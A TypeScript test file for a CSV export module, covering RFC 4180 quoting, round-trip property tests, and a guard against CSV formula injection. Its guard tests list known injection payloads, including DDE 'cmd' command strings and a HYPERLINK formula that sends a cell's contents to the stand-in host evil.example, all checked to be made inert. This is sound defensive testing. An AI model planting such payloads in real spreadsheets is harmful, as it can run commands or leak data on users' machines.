import { Readable } from "node:stream";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvHeader, csvLine, guardFormula, readCsv, unguardFormula } from "./csv.ts";
import type { RecordValues } from "./record.ts";

async function roundTrip(rows: readonly RecordValues[], lists: readonly string[] = []) {
  const width = rows[0]?.length ?? 1;
  const names = Array.from({ length: width }, (_, position) => `f${position}`);
  const text = csvHeader(names) + rows.map(csvLine).join("");
  const { names: found, records } = await readCsv(Readable.from([Buffer.from(text)]), (name) =>
    lists.includes(name),
  );
  const read: RecordValues[] = [];
  for await (const values of records) {
    read.push(values);
  }
  return { names: found, rows: read };
}

describe("the CSV writer", () => {
  test("follows RFC 4180 and keeps empty texts apart from missing values", () => {
    expect(
      csvHeader(["a", "b"]) + csvLine(['say "hi", now', null]) + csvLine(["", "two\r\nlines"]),
    ).toBe('a,b\r\n"say ""hi"", now",\r\n"","two\r\nlines"\r\n');
  });

  test("writes a list as JSON", () => {
    expect(csvLine([["a", 'b"c']])).toBe('"[""a"",""b\\""c""]"\r\n');
  });

  test("gives back every text that it was given", async () => {
    const value = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc.string({
        unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "1", "."),
      }),
      fc.constant(null),
    );
    const row = fc.tuple(value, value, value);
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 8 }), async (rows) => {
        expect(await roundTrip(rows)).toEqual({ names: ["f0", "f1", "f2"], rows });
      }),
    );
  });

  test("gives back every list that it was given", async () => {
    const rows = [[["a", "b,c", '"']], [[]], [null]];
    expect((await roundTrip(rows, ["f0"])).rows).toEqual(rows);
  });
});

describe("the formula guard", () => {
  /** After OWASP "CSV Injection" and the payloads published with CVE reports of exporting tools. */
  test.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "-",
    "+",
    "-1e5",
    "+49 30 1234567",
    "-1,5",
    "=",
  ])("makes %j inert and gives it back", (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
    expect(unguardFormula(guardFormula(text))).toBe(text);
  });

  test.each([
    "-12.50",
    "+4915112345678",
    "0",
    "-3",
    "plain",
    "a=b",
    "'quoted'",
    "'",
    "",
    " =1",
    "O'Neill",
  ])("leaves %j alone", (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  test("can always be taken off again", () => {
    const text = fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "1", ".", "a", "\t") });
    fc.assert(fc.property(text, (value) => unguardFormula(guardFormula(value)) === value));
  });

  test("leaves nothing that a spreadsheet would run", () => {
    const text = fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "1", ".", "a", "\t") });
    fc.assert(
      fc.property(text, (value) => {
        const guarded = guardFormula(value);
        expect(/^[=+\-@\t\r\n]/u.test(guarded) && !/^[+-]?\d+(?:\.\d+)?$/u.test(guarded)).toBe(
          false,
        );
      }),
    );
  });
});
